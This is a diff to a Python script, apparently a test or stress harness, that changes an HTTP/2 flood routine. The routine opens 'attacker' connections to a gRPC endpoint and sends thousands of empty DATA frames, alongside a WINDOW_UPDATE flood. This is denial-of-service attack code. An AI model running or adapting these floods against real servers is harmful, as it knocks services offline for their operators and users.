@@ -110,14 +110,14 @@ def window_update_flood(run):
     repeat(run, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000, "thousands")
 
 
-def empty_data_flood(run):
-    head = frame(HEADERS, END_HEADERS, 1, grpc_headers(STREAM_PREDICT))
+def empty_data_flood(run, headers=grpc_headers(STREAM_PREDICT)):
+    head = frame(HEADERS, END_HEADERS, 1, headers)
     while run.goes_on():
         attacker = run.connect()
         while attacker and run.goes_on() and attacker.send(head + frame(DATA, 0, 1) * 1000) and attacker.skim():
             head = b""
             run.count("thousands")
-        head = frame(HEADERS, END_HEADERS, 1, grpc_headers(STREAM_PREDICT))
+        head = frame(HEADERS, END_HEADERS, 1, headers)
         if attacker:
             attacker.close()
 
